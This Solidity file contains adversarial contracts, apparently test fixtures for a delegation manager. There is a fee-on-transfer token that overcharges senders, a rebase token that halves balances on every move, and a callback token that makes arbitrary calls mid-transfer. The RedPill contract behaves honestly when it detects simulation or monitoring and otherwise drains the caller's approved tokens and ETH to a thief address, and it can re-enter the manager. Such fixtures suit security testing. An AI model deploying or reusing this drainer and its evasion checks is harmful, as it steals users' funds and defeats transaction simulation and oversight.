// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

/// A plain token, to be bent below.
contract PlainToken {
    mapping(address => uint256) internal shares;
    mapping(address => mapping(address => uint256)) public allowance;
    string public symbol;
    uint8 public constant decimals = 18;
    event Transfer(address indexed from, address indexed to, uint256 amount);
    event Approval(address indexed owner, address indexed spender, uint256 amount);

    constructor(string memory name_) {
        symbol = name_;
    }

    function mint(address to, uint256 amount) external {
        shares[to] += amount;
    }

    function balanceOf(address who) public view virtual returns (uint256) {
        return shares[who];
    }

    function approve(address spender, uint256 amount) external virtual returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        move(from, to, amount);
        return true;
    }

    function move(address from, address to, uint256 amount) internal virtual {
        shares[from] -= amount;
        shares[to] += amount;
        emit Transfer(from, to, amount);
    }
}

/// Keeps a tenth of every transfer, and takes as much again from the sender.
contract FeeToken is PlainToken("FEE") {
    function move(address from, address to, uint256 amount) internal override {
        uint256 extra = amount / 10;
        if (shares[from] < amount + extra) extra = 0;
        shares[from] -= amount + extra;
        shares[to] += amount - amount / 10;
        emit Transfer(from, to, amount);
    }
}

/// Everybody's balance halves whenever anybody moves.
contract RebaseToken is PlainToken("REBASE") {
    uint256 internal factor = 1e18;

    function balanceOf(address who) public view override returns (uint256) {
        return (shares[who] * factor) / 1e18;
    }

    function move(address from, address to, uint256 amount) internal override {
        uint256 part = (amount * 1e18) / factor;
        shares[from] -= part;
        shares[to] += part;
        factor = factor / 2;
        emit Transfer(from, to, amount);
    }
}

interface IToken {
    function balanceOf(address) external view returns (uint256);
    function allowance(address, address) external view returns (uint256);
    function transferFrom(address, address, uint256) external returns (bool);
}

interface IManager {
    function redeemDelegations(bytes[] calldata, bytes32[] calldata, bytes[] calldata) external;
}

/// Calls whoever it was told to, in the middle of a transfer.
contract CallbackToken is PlainToken("CALLBACK") {
    address internal hook;
    bytes internal payload;

    function setHook(address hook_, bytes calldata payload_) external {
        hook = hook_;
        payload = payload_;
    }

    function move(address from, address to, uint256 amount) internal override {
        shares[from] -= amount;
        shares[to] += amount;
        emit Transfer(from, to, amount);
        if (hook != address(0)) {
            (bool ok, ) = hook.call(payload);
            ok;
        }
    }
}

/// Looks honest where it thinks that it is watched, and takes all it may where not.
contract RedPill {
    uint8 internal immutable sign;
    address internal immutable thief;
    uint256 internal flips;

    constructor(uint8 sign_, address thief_) {
        sign = sign_;
        thief = thief_;
    }

    receive() external payable {}

    function isWatched() internal view returns (bool) {
        if (sign == 0) return block.coinbase == address(0);
        if (sign == 1) return block.basefee == 0;
        if (sign == 2) return tx.gasprice == 0;
        if (sign == 3) return tx.origin == msg.sender;
        if (sign == 4) return msg.sender.code.length == 0;
        if (sign == 5) return gasleft() > 10_000_000;
        if (sign == 6) return block.timestamp % 2 == 0;
        if (sign == 7) return block.number % 2 == 0;
        if (sign == 8) return block.prevrandao == 0;
        if (sign == 9) return flips == 0;
        if (sign == 10) return block.gaslimit > 30_000_000;
        return false;
    }

    function flip() external {
        flips++;
    }

    /// Pays back what it was sent, or takes what the caller ever allowed it.
    function work(IToken[] calldata tokens) external payable {
        if (isWatched()) {
            (bool paid, ) = msg.sender.call{value: msg.value}("");
            paid;
            return;
        }
        steal(msg.sender, tokens);
        (bool ok, ) = thief.call{value: address(this).balance}("");
        ok;
    }

    function steal(address victim, IToken[] calldata tokens) public {
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 most = tokens[i].balanceOf(victim);
            uint256 may = tokens[i].allowance(victim, address(this));
            if (may < most) most = may;
            if (most > 0) {
                try tokens[i].transferFrom(victim, thief, most) {} catch {}
            }
        }
    }

    /// Comes back into the manager while a mandate is being used.
    function reenter(
        IManager manager,
        bytes[] calldata contexts,
        bytes32[] calldata modes,
        bytes[] calldata executions
    ) external {
        manager.redeemDelegations(contexts, modes, executions);
    }
}
